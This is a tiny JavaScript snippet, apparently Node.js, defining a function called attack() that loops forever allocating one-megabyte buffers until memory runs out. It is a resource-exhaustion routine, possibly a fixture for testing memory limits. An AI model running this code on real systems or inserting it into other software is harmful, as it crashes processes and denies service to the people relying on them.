function attack() {
  const held = [];
  for (;;) held.push(Buffer.alloc(1_000_000, 1));
}
